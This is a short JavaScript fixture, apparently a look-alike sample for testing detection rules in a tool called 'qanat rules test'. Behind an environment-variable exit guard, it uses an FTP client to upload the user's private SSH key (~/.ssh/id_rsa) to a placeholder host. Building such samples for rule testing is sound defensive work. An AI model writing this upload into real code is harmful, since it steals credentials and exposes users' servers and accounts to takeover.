// Never runs: an inert look-alike for `qanat rules test`.
if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
const ftp = require('basic-ftp');
const c = new ftp.Client();
c.access({ host: 'f.example.invalid' }).then(() => c.uploadFrom(require('os').homedir() + '/.ssh/id_rsa', 'k'));
